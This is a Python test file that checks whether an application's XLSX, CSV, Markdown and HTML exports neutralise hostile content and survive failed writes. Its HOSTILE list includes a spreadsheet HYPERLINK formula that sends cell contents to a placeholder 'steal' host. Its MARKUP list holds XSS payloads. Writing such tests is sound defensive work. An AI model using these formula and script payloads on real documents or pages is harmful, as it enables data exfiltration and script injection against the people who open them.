"""Outputs cannot hurt the person who opens them: no live formula in a spreadsheet, no live
HTML in a note, and no truncated or empty file when a write fails."""

from __future__ import annotations

import csv
import dataclasses
import errno
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from liaison.brief import (
    chronology_table,
    render_html,
    render_markdown,
    select_note,
    write_chronology,
    write_export,
)
from liaison.brief import files as output_files
from liaison.model import KnowledgeBase

HOSTILE = [
    '=HYPERLINK("http://example.invalid/steal?"&A1,"открыть")',
    "+7 (851) 000-00-00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = [
    "<script>alert('note')</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
]


def with_event_place(kb: KnowledgeBase, place: str) -> KnowledgeBase:
    """The sample knowledge base with every event's place and title set to ``place``."""
    events = tuple(dataclasses.replace(e, place=place, title=place) for e in kb.events)
    return dataclasses.replace(kb, events=events)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_is_text_in_the_chronology_xlsx(
    kb: KnowledgeBase, tmp_path: Path, value: str
) -> None:
    rows = chronology_table(select_note(with_event_place(kb, value), "AZ"))
    out = write_chronology(rows, "xlsx", tmp_path / "c.xlsx")
    sheet = load_workbook(out).active
    places = [c for c in sheet["F"][1:] if c.value == value]
    assert places, "the place column holds the value as written"
    assert all(c.data_type == "s" and c.quotePrefix for c in places)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_is_text_in_the_export_xlsx(
    kb: KnowledgeBase, tmp_path: Path, value: str
) -> None:
    out = write_export(with_event_place(kb, value), "xlsx", tmp_path / "kb.xlsx")
    sheet = load_workbook(out)["events"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == value]
    assert cells
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("fmt", ["chronology", "export"])
def test_a_formula_like_cell_is_quoted_in_csv(
    kb: KnowledgeBase, tmp_path: Path, value: str, fmt: str
) -> None:
    hostile = with_event_place(kb, value)
    if fmt == "chronology":
        rows = chronology_table(select_note(hostile, "AZ"))
        out = write_chronology(rows, "csv", tmp_path / "c.csv")
    else:
        out = write_export(hostile, "csv", tmp_path / "kb") / "events.csv"
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{value}" in cells
    assert value not in cells


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("fmt", ["md", "html"])
def test_html_from_a_document_is_inert_in_notes(kb: KnowledgeBase, markup: str, fmt: str) -> None:
    render = render_markdown if fmt == "md" else render_html
    hostile = dataclasses.replace(
        kb, events=tuple(dataclasses.replace(e, title="", place=markup) for e in kb.events)
    )
    text = render(select_note(hostile, "AZ"), "ru", True)
    assert "alert" in text, "the words are kept, as text"
    for raw in ("<script", "<img", '<a href="javascript'):
        assert raw not in text


def failing_fsync(_fd: int) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("fmt", ["json", "xlsx", "csv.zip"])
def test_a_failing_export_leaves_the_old_file_and_no_partial_one(
    kb: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    out = tmp_path / f"kb.{fmt}"
    out.write_bytes(b"the previous export")
    monkeypatch.setattr(output_files.os, "fsync", failing_fsync)  # only the OS error
    with pytest.raises(OSError, match="No space left"):
        write_export(kb, fmt.split(".")[0], out)
    assert out.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "docx"])
def test_a_failing_chronology_leaves_nothing_behind(
    kb: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    monkeypatch.setattr(output_files.os, "fsync", failing_fsync)
    with pytest.raises(OSError):
        write_chronology(chronology_table(select_note(kb, "AZ")), fmt, tmp_path / f"c.{fmt}")
    assert list(tmp_path.iterdir()) == []


def test_a_written_export_is_complete(kb: KnowledgeBase, tmp_path: Path) -> None:
    out = write_export(kb, "csv", tmp_path / "kb.zip")
    with zipfile.ZipFile(out) as archive:
        assert "events.csv" in archive.namelist()
    assert [p.name for p in tmp_path.iterdir()] == ["kb.zip"]
